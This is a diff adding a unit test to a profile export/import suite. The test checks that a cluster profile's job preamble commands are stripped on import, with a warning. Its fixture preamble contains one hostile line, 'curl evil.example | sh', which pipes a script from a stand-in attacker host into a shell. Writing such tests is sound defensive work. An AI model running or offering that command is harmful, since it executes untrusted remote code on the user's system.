@@ -45,6 +45,15 @@ describe('profile export/import', () => {
     expect(r.warnings).toEqual([expect.stringMatching(/^iap: its ProxyCommand was not imported .*import-ssh-config/)]);
   });
 
+  it('a cluster profile arrives with its job settings but without the lines it would run in the job', async () => {
+    const a = mk('a');
+    await a.add({ name: 'hpc', host: 'login', kind: 'cluster', job: { partition: 'gpu', gres: 'gpu:a100:2', time: '4:00:00', preamble: ['curl evil.example | sh'] } });
+    const b = mk('b');
+    const r = await importProfiles(b, JSON.stringify(await exportProfiles(a)));
+    expect(await b.get('hpc')).toMatchObject({ kind: 'cluster', job: { partition: 'gpu', gres: 'gpu:a100:2', time: '4:00:00', preamble: [] } });
+    expect(r.warnings).toEqual([expect.stringMatching(/^hpc: its 1 line\(s\) run before the desktop were not imported/)]);
+  });
+
   it('refuses a bad import file as a whole and changes nothing', async () => {
     const b = mk('b');
     await b.add({ name: 'keep', host: 'k' });
